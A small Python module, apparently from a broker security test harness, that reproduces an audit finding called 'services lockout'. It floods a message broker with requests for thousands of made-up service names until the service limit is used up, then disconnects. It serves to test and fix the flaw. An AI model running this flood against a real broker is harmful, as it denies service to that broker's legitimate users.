"""Finding 6, services lockout: one client queues a request to each of as many made-up
names as the broker allows services, and disconnects."""

from __future__ import annotations

from .frames import request
from .harness import Attacker

__all__ = ["SHORT_BROKER", "run"]

#: The short run's broker: fewer services allowed, the same attack.
SHORT_BROKER = ("--max-services", "300")


def run(a: Attacker) -> None:
    names = a.size(10_000, 300)
    sock = a.socket()
    sent = 0
    for i in range(names):
        if not a.send(sock, request(b"made-up-%d" % i, b"")):
            break
        sent += 1
    a.notes["requests"] = sent
    a.hold(a.size(2, 0.5))
